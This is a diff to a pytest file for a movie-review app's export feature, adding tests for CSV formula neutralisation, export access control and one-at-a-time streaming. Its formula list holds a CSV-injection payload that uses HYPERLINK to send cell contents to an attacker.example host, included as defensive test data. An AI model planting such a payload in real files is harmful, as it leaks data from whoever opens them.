@@ -6,14 +6,17 @@ chunks with a fixed number of queries each, and that its memory does not grow wi
 number of reviews.
 """
 
+import csv
 import json
 import math
 import sqlite3
 import subprocess
 import sys
+import time
 import tracemalloc
 from pathlib import Path
 
+import httpx
 import pandas
 import pytest
 from fastapi.testclient import TestClient
@@ -21,13 +24,13 @@ from sqlalchemy import event, insert
 
 from app.cli import main
 from app.db import Explanation, Movie, Prediction, Review, Sentence, SentenceWeight, WordWeight, make_engine, migrate, session_scope
-from app.export import csv_columns, export_rows
+from app.export import FORMULA_STARTS, csv_columns, export_rows
 from app.main import create_app
 from app.schemas import ExportRow
 from app.settings import Settings
 from model.quality import QUALITY_FIELDS
-from tests.conftest import ROOT
-from tests.web_fixtures import CATALOGUE, build_web_database, explanation_figures
+from tests.conftest import ROOT, serve_in_thread
+from tests.web_fixtures import CATALOGUE, analyzer_app, build_web_database, explanation_figures
 
 TOKEN = "export-s3cret"
 WRITER_LABELED = "Seen it twice. Not for me."
@@ -169,6 +172,37 @@ def test_csv_is_one_row_per_review_with_flat_columns(database, tmp_path):
     assert pandas.isna(labeled["gold"])
 
 
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
+    """Reviews posted through the API that begin like a formula come out of the CSV with a leading
+    quote (OWASP's rule); the same texts stay as they were in JSON Lines."""
+    url = build_web_database(tmp_path / "textflix.db")
+    app, _, _ = analyzer_app(url, api_token=TOKEN)
+    with TestClient(app) as client:
+        for text in [*FORMULAS, "A good film. -3 for the ending."]:
+            response = client.post(
+                "/api/reviews", json={"text": text, "title_id": "tt0100001"}, headers={"Authorization": f"Bearer {TOKEN}"}
+            )
+            assert response.status_code == 201, response.text
+    with export_file(url, tmp_path, "--format", "csv").open(newline="", encoding="utf-8") as file:
+        lines = list(csv.DictReader(file))
+    texts = [line["text"] for line in lines if line["source"] == "user"]
+    assert texts[-len(FORMULAS) - 1 :] == [*("'" + text for text in FORMULAS), "A good film. -3 for the ending."]
+    cells = [cell for line in lines for cell in line.values()]
+    assert not [cell for cell in cells if cell[:1] in FORMULA_STARTS]
+    rows = read_jsonl(export_file(url, tmp_path))
+    assert [row["text"] for row in rows if row["source"] == "user"][-len(FORMULAS) - 1 : -1] == FORMULAS
+
+
 # --- errors ------------------------------------------------------------------------------------
 
 
@@ -198,11 +232,43 @@ def test_a_missing_database_or_unwritable_file_is_one_sentence_and_exit_1(databa
 
 def test_the_api_streams_the_same_rows(database, tmp_path):
     url, _ = database
-    with TestClient(create_app(Settings(database_url=url, data_dir=tmp_path, api_token=None))) as client:
-        response = client.get("/api/export.jsonl")
+    with serve_in_thread(create_app(Settings(database_url=url, data_dir=tmp_path, api_token=None))) as server:
+        response = httpx.get(f"{server}/api/export.jsonl", timeout=60)
     assert response.status_code == 200
     assert response.headers["content-type"] == "application/x-ndjson"
     assert response.text == export_file(url, tmp_path).read_text(encoding="utf-8")
+
+
+def test_without_a_token_the_api_export_is_open_as_writes_are(database, tmp_path):
+    """To clients on this machine only: the Docker image (no token, clients from outside the
+    container) and a server behind a proxy refuse it, as they refuse anonymous writes."""
+    url, _ = database
+    with TestClient(create_app(Settings(database_url=url, data_dir=tmp_path, api_token=None))) as client:
+        response = client.get("/api/export.jsonl")  # the client's address is "testclient"
+    assert response.status_code == 403
+    [item] = response.json()["detail"]
+    assert item["field"] == "Authorization" and "exports the database" in item["message"] and "TEXTFLIX_API_TOKEN" in item["message"]
+    with serve_in_thread(create_app(Settings(database_url=url, data_dir=tmp_path, api_token=None))) as server:
+        through_a_proxy = httpx.get(f"{server}/api/export.jsonl", headers={"X-Forwarded-For": "203.0.113.7"})
+    assert through_a_proxy.status_code == 403
+
+
+def test_one_api_export_at_a_time(tmp_path):
+    url = f"sqlite:///{tmp_path / 'many.db'}"
+    fill_many(url, 20_000)  # about 40 MB of JSON Lines: more than the sockets buffer
+    app = create_app(Settings(database_url=url, data_dir=tmp_path, api_token=TOKEN))
+    auth = {"Authorization": f"Bearer {TOKEN}"}
+    with serve_in_thread(app) as server, httpx.Client(base_url=server, headers=auth, timeout=60) as client:
+        with client.stream("GET", "/api/export.jsonl") as first:
+            assert first.status_code == 200
+            next(first.iter_bytes())  # the first is streaming, and its reader waits
+            second = client.get("/api/export.jsonl")
+        assert second.status_code == 429 and int(second.headers["retry-after"]) >= 1
+        assert "one at a time" in second.json()["detail"][0]["message"]
+        deadline = time.monotonic() + 30  # the first one's client left: its export stops and frees the way
+        while (third := client.get("/api/export.jsonl")).status_code == 429 and time.monotonic() < deadline:
+            time.sleep(0.2)
+    assert third.status_code == 200 and len(third.text.splitlines()) == 20_000
 
 
 def test_the_api_export_needs_the_token_when_one_is_set(database, tmp_path):
@@ -224,8 +290,8 @@ def test_the_api_export_needs_the_token_when_one_is_set(database, tmp_path):
 
 
 def test_the_api_export_of_a_missing_database_is_a_503(tmp_path):
-    with TestClient(create_app(Settings(data_dir=tmp_path, api_token=None))) as client:
-        response = client.get("/api/export.jsonl")
+    with TestClient(create_app(Settings(data_dir=tmp_path, api_token=TOKEN))) as client:
+        response = client.get("/api/export.jsonl", headers={"Authorization": f"Bearer {TOKEN}"})
     assert response.status_code == 503 and "textflix build" in response.json()["detail"][0]["message"]
 
 
